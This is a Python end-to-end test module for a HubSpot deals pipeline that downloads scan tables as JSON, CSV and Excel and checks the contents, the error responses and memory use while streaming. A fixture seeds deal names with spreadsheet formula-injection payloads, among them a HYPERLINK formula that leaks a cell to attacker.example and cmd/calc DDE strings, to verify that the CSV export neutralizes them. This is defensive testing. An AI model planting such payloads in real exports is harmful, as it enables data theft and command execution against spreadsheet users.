"""Downloads end to end: the HubSpot sandbox, `dagster dev`, the shim under uvicorn, DuckDB.

Every table of a scan is downloaded as json, csv and xlsx, parsed back (json, the csv module,
openpyxl) and compared cell by cell with the scan's rows read straight from the DuckDB file.
"""

import csv
import io
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb
import psutil
import pytest

from hubspot_deals.settings import DATASET_NAME
from hubspot_deals_tests.api_shim.conftest import Shim, home_env, shim_env
from hubspot_deals_tests.api_shim.downloads import assert_formats_equal, download
from hubspot_deals_tests.conftest import fake_token
from hubspot_deals_tests.servers import DagsterDev
from hubspot_sandbox.process import SandboxServer

pytestmark = pytest.mark.slow

DEALS = 100_000
SEED = 3
TABLE_ORDER = {
    "deals": "id",
    "users": "id",
    "pipelines": "id",
    "pipeline_stages": "pipeline_id, id",
    "deal_properties": "name",
}
# Deal names a spreadsheet would run as formulas, and what the CSV cell must hold instead.
FORMULA_NAMES = {
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")': (
        '\'=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    ),
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-5": "-5",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "+1.5e3": "+1.5e3",
    "Deal - 5 = fine": "Deal - 5 = fine",
}


@dataclass
class Stack:
    sandbox: SandboxServer
    shim: Shim
    duckdb_file: Path
    formula_deal_ids: list[str]
    small_scan_deals: int  # live deals created in January and February 2021


@pytest.fixture(scope="module")
def stack(module_dir: Path, clean_env: None) -> Iterator[Stack]:
    token = fake_token()
    with SandboxServer(deals=DEALS, seed=SEED, tokens=[token]) as sandbox:
        account = sandbox.account()
        ids = account.live_deal_ids()[: len(FORMULA_NAMES)]
        small_scan_deals = sum(
            1
            for deal in account.deals(archived=False)
            if deal["properties"]["createdate"] < "2021-03-01"
        )
        for deal_id, name in zip(ids, FORMULA_NAMES, strict=True):
            sandbox.admin(
                "POST", "deals/modify", {"ids": [deal_id], "properties": {"dealname": name}}
            )
        home = home_env(module_dir)
        dagster_env = {**home, "HUBSPOT_API_BASE_URL": sandbox.base_url}
        with (
            DagsterDev(dagster_env, module_dir) as dagster,
            Shim(
                shim_env(dagster, home, open_access="true", duckdb_read_memory_limit="32MB"),
                module_dir,
            ) as shim,
        ):
            shim.wait_healthy()
            small = {"dateRange": {"startDate": "2021-01-01", "endDate": "2021-02-28"}}
            assert shim.start_scan("dl-small", token, "org-dl", small).status_code == 202
            shim.wait_status("dl-small", ("completed",), timeout=300)
            assert shim.start_scan("dl-full", token, "org-dl").status_code == 202
            shim.wait_status("dl-full", ("completed",), timeout=600)
            assert shim.start_scan("dl-failed", fake_token(), "org-dl").status_code == 202
            shim.wait_status("dl-failed", ("failed",), timeout=300)
            duckdb_file = Path(home["HUBSPOT_DEALS_HOME"]) / "hubspot_deals.duckdb"
            yield Stack(sandbox, shim, duckdb_file, ids, small_scan_deals)


def table_rows(stack: Stack, scan_id: str, table: str, columns: list[str]) -> tuple[list, list]:
    """The scan's rows of `table` straight from the DuckDB file, and each column's type."""
    select = ", ".join(f'"{c}"' for c in columns)
    with _connect_when_unlocked(stack.duckdb_file) as conn:
        cursor = conn.execute(
            f'SELECT {select} FROM {DATASET_NAME}."{table}" WHERE _scan_id = ? '
            f"ORDER BY {TABLE_ORDER[table]}",
            [scan_id],
        )
        types = [str(d[1]) for d in cursor.description]
        return cursor.fetchall(), types


def _connect_when_unlocked(path: Path) -> duckdb.DuckDBPyConnection:
    """The DuckDB file, read-only, once no other process (a sensor rebuilding deals_current,
    the shim copying a scan) holds its lock."""
    deadline = time.monotonic() + 120
    while True:
        try:
            return duckdb.connect(str(path), read_only=True)
        except duckdb.IOException as exc:
            if "lock" not in str(exc) or time.monotonic() > deadline:
                raise
            time.sleep(0.2)


@pytest.mark.parametrize("table", list(TABLE_ORDER))
def test_every_format_equals_the_table(stack: Stack, table: str) -> None:
    as_json = download(stack.shim, "dl-small", "json", table)
    assert as_json.headers["content-type"] == "application/json"
    body = as_json.json()
    columns = body["columns"]
    rows, types = table_rows(stack, "dl-small", table, columns)
    assert {k: body[k] for k in ("scanId", "tableName", "totalRecords")} == {
        "scanId": "dl-small",
        "tableName": table,
        "totalRecords": len(rows),
    }
    assert len(body["records"]) == len(rows) > 0
    if table == "deals":
        assert len(rows) == stack.small_scan_deals
    assert_formats_equal(stack.shim, "dl-small", table, body, rows, types)


def test_csv_cells_that_would_run_as_formulas_are_neutralized(stack: Stack) -> None:
    response = download(stack.shim, "dl-small", "csv", "deals")
    parsed = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = {row["id"]: row["dealname"] for row in parsed}
    assert [names[i] for i in stack.formula_deal_ids] == list(FORMULA_NAMES.values())
    # JSON and xlsx carry the text unchanged: neither is read as a formula.
    records = download(stack.shim, "dl-small", "json", "deals").json()["records"]
    by_id = {r["id"]: r["dealname"] for r in records}
    assert [by_id[i] for i in stack.formula_deal_ids] == list(FORMULA_NAMES)


def test_download_errors_use_the_error_envelope(stack: Stack) -> None:
    shim = stack.shim
    missing = shim.get("/results/no-such-scan/download/csv")
    assert (missing.status_code, missing.json()) == (
        404,
        {
            "success": False,
            "message": "No scan found with ID: no-such-scan",
            "error": "No scan found with ID: no-such-scan",
        },
    )
    bad_format = shim.get("/results/dl-small/download/pdf")
    assert bad_format.status_code == 400
    assert bad_format.json()["validation_errors"] == {
        "format": ["format must be one of: json, csv, excel"]
    }
    bad_table = shim.get("/results/dl-small/download/json", params={"tableName": "contacts"})
    message = (
        "Table 'contacts' is not one of this scan's tables (deals, users, pipelines, "
        "pipeline_stages, deal_properties, deal_summary)"
    )
    assert (bad_table.status_code, bad_table.json()) == (
        400,
        {
            "success": False,
            "message": message,
            "error": message,
            "validation_errors": {"tableName": [message]},
        },
    )
    failed = shim.get("/results/dl-failed/download/excel")
    message = (
        "Scan 'dl-failed' is not completed (status: failed); its results are available once it "
        "completes"
    )
    assert (failed.status_code, failed.json()["message"]) == (400, message)


def test_csv_download_streams_in_bounded_memory(stack: Stack) -> None:
    """The full scan's deals (every property) as CSV: the first bytes come before the shim
    has read the table, and its memory does not grow with the file."""
    shim = stack.shim
    answer = shim.get("/results/dl-full/tables")
    assert answer.status_code == 200, answer.text
    tables = answer.json()["data"]["tables"]
    live = DEALS - round(DEALS * 0.05)
    assert {t["name"]: t["rowCount"] for t in tables}["deals"] == live
    process = psutil.Process(shim.process.proc.pid)
    baseline = process.memory_info().rss
    peak = [baseline]
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], process.memory_info().rss)
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    started = time.monotonic()
    first_byte = None
    size = lines = 0
    try:
        with shim.session.get(
            shim.api + "/results/dl-full/download/csv",
            params={"tableName": "deals"},
            stream=True,
            timeout=300,
        ) as response:
            assert response.status_code == 200
            for chunk in response.iter_content(chunk_size=65536):
                if first_byte is None:
                    first_byte = time.monotonic() - started
                size += len(chunk)
                lines += chunk.count(b"\n")
    finally:
        done.set()
        sampler.join()
    growth_mb = (peak[0] - baseline) / 2**20
    print(f"csv {size / 2**20:.1f} MB, first byte {first_byte:.3f}s, rss +{growth_mb:.1f} MB")
    assert size > 120 * 2**20  # far more than the bound below
    assert lines >= live + 1  # header and rows (quoted values may hold more line breaks)
    assert first_byte is not None and first_byte < 2.0
    # DuckDB caches up to 32 MB of the read copy's blocks here (its read memory limit).
    assert growth_mb < 100, f"the shim grew by {growth_mb:.1f} MB during a {size} byte download"
